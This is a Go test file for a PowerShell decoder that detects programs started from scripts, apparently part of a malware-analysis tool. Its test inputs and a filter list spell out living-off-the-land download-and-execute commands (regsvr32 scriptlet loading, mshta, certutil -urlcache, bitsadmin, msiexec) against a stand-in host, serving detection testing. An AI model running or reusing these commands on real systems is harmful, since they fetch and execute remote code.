package psdecode

import (
	"strings"
	"testing"
)

// lolbin is a stand-in for the analysis package's program filter.
func lolbin(p string) bool {
	b := strings.ToLower(p[strings.LastIndexAny(p, `\/`)+1:])
	b = strings.TrimSuffix(b, ".exe")
	switch b {
	case "regsvr32", "rundll32", "mshta", "certutil", "cmd", "schtasks", "bitsadmin", "msiexec", "powershell":
		return true
	}
	return false
}

// TestInvocations: programs started from PowerShell source, the way each
// technique writes them, and the command lines they get.
func TestInvocations(t *testing.T) {
	tests := []struct {
		name, in string
		want     []Invocation
	}{
		{"statement", "Get-Date\nregsvr32 /s /n /u /i:http://203.0.113.7/f.sct scrobj.dll",
			[]Invocation{{"regsvr32", "regsvr32 /s /n /u /i:http://203.0.113.7/f.sct scrobj.dll", ViaStatement}}},
		{"after pipe and semicolon", "$x = 1; mshta http://203.0.113.7/a.hta | Out-Null",
			[]Invocation{{"mshta", "mshta http://203.0.113.7/a.hta", ViaStatement}}},
		{"assignment", "$out = certutil.exe -urlcache -f http://203.0.113.7/a a.txt 2>&1",
			[]Invocation{{"certutil.exe", "certutil.exe -urlcache -f http://203.0.113.7/a a.txt", ViaStatement}}},
		{"inside a block", "if ($ok) { cmd /c 'whoami /all' }",
			[]Invocation{{"cmd", `cmd /c "whoami /all"`, ViaStatement}}},
		{"call operator env path", "& \"$env:windir\\System32\\rundll32.exe\" url.dll,OpenURL 'C:\\Users\\Public\\a b.hta'",
			[]Invocation{{`C:\Windows\System32\rundll32.exe`, `C:\Windows\System32\rundll32.exe url.dll,OpenURL "C:\Users\Public\a b.hta"`, ViaCall}}},
		{"glued quoted argument", `regsvr32 /s /i:"http://203.0.113.7/f.sct" scrobj.dll`,
			[]Invocation{{"regsvr32", "regsvr32 /s /i:http://203.0.113.7/f.sct scrobj.dll", ViaStatement}}},
		{"line continuation", "schtasks /create /tn T `\n  /tr 'mshta http://203.0.113.7/p.hta' /sc once /st 00:00",
			[]Invocation{{"schtasks", `schtasks /create /tn T /tr "mshta http://203.0.113.7/p.hta" /sc once /st 00:00`, ViaStatement}}},
		{"start-process named", "Start-Process -FilePath 'mshta.exe' -ArgumentList 'http://203.0.113.7/a.hta' -WindowStyle Hidden",
			[]Invocation{{"mshta.exe", "mshta.exe http://203.0.113.7/a.hta", ViaStartProcess}}},
		{"start-process positional array", "start cmd '/c','bitsadmin /transfer j http://203.0.113.7/a a.dat' -Wait",
			[]Invocation{{"cmd", `cmd /c "bitsadmin /transfer j http://203.0.113.7/a a.dat"`, ViaStartProcess}}},
		{"start-process glued", "saps -FilePath:regsvr32 -Args:'/s /i:http://203.0.113.7/f.sct scrobj.dll'",
			[]Invocation{{"regsvr32", "regsvr32 /s /i:http://203.0.113.7/f.sct scrobj.dll", ViaStartProcess}}},
		{"wmi argumentlist", "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'cmd /c whoami'",
			[]Invocation{{"", "cmd /c whoami", ViaWMI}}},
		{"wmi positional", "iwmi win32_process create 'mshta http://203.0.113.7/a.hta'",
			[]Invocation{{"", "mshta http://203.0.113.7/a.hta", ViaWMI}}},
		{"cim hashtable", "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='regsvr32 /s x.dll'}",
			[]Invocation{{"", "regsvr32 /s x.dll", ViaWMI}}},
		{"wmiclass create", "([wmiclass]'win32_process').Create('rundll32 C:\\Users\\Public\\a.dll,Go')",
			[]Invocation{{"", `rundll32 C:\Users\Public\a.dll,Go`, ViaWMI}}},
		{"process start", "[Diagnostics.Process]::Start('C:\\Windows\\System32\\msiexec.exe','/q /i http://203.0.113.7/p.msi')",
			[]Invocation{{"", `C:\Windows\System32\msiexec.exe /q /i http://203.0.113.7/p.msi`, ViaMethod}}},
		{"wscript shell run", "$s=New-Object -ComObject WScript.Shell;$s.Run('mshta http://203.0.113.7/a.hta',0)",
			[]Invocation{{"", "mshta http://203.0.113.7/a.hta", ViaMethod}}},
		{"iex literal", "iex 'certutil -urlcache -f http://203.0.113.7/a a.txt'",
			[]Invocation{{"certutil", "certutil -urlcache -f http://203.0.113.7/a a.txt", ViaStatement}}},
		{"iex -Command", "Invoke-Expression -Command 'mshta http://203.0.113.7/a.hta'",
			[]Invocation{{"mshta", "mshta http://203.0.113.7/a.hta", ViaStatement}}},
		{"scriptblock create", "& ([ScriptBlock]::Create('regsvr32 /s /i:http://203.0.113.7/f.sct scrobj.dll'))",
			[]Invocation{{"regsvr32", "regsvr32 /s /i:http://203.0.113.7/f.sct scrobj.dll", ViaStatement}}},
		{"start-process array literal", "Start-Process cmd.exe -ArgumentList @('/c', 'certutil -urlcache -f http://203.0.113.7/a a.dat')",
			[]Invocation{{"cmd.exe", `cmd.exe /c "certutil -urlcache -f http://203.0.113.7/a a.dat"`, ViaStartProcess}}},
		{"process start info", "$psi = New-Object System.Diagnostics.ProcessStartInfo\n$psi.FileName = 'rundll32.exe'\n$psi.Arguments = 'C:\\Users\\Public\\a.dll,Go'\n$psi.WindowStyle = 'Hidden'\n[Diagnostics.Process]::Start($psi)",
			[]Invocation{{"", `rundll32.exe C:\Users\Public\a.dll,Go`, ViaMethod}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Invocations(tt.in, 8, lolbin)
			if len(got) != len(tt.want) {
				t.Fatalf("Invocations(%q) = %q, want %q", tt.in, got, tt.want)
			}
			for i := range got {
				if got[i] != tt.want[i] {
					t.Errorf("Invocations(%q)[%d] = %q, want %q", tt.in, i, got[i], tt.want[i])
				}
			}
		})
	}
}

// TestInvocationsNotCommands: a program named in a string, a comment, a
// here-string, as a cmdlet's argument or without arguments is not started.
func TestInvocationsNotCommands(t *testing.T) {
	for _, in := range []string{
		`Write-Host "run regsvr32 /s /i:http://x/a.sct scrobj.dll"`,
		"$help = 'mshta http://x/a.hta'",
		"# certutil -urlcache -f http://x/a a",
		"<#\n.EXAMPLE\nrundll32 url.dll,OpenURL x\n#>",
		"$t = @'\ncmd /c whoami\n'@",
		"Get-Process -Name mshta | Stop-Process",
		"Test-Path C:\\Windows\\System32\\certutil.exe",
		"regsvr32",
		"$p = 'regsvr32'; Write-Output $p",
		"Start-Process notepad.exe -ArgumentList 'a.txt'",
		"if ($x -eq 'cmd') { 'cmd /c x' }",
	} {
		if got := Invocations(in, 8, lolbin); len(got) != 0 {
			t.Errorf("Invocations(%q) = %q, want none", in, got)
		}
	}
}

// TestInvocationsBounded: at most max, each command line bounded.
func TestInvocationsBounded(t *testing.T) {
	in := strings.Repeat("cmd /c echo "+strings.Repeat("x", 100)+"\n", 1000) + strings.Repeat("${=}+$(@{})[+!]", 1<<14)
	got := Invocations(in, 5, lolbin)
	if len(got) != 1 { // one distinct command line
		t.Errorf("%d invocations, want 1", len(got))
	}
	var many strings.Builder
	for i := 0; i < 100; i++ {
		many.WriteString("cmd /c echo " + strings.Repeat("y", i) + "\n")
	}
	if got := Invocations(many.String(), 5, lolbin); len(got) != 5 {
		t.Errorf("%d invocations, want the limit 5", len(got))
	}
}
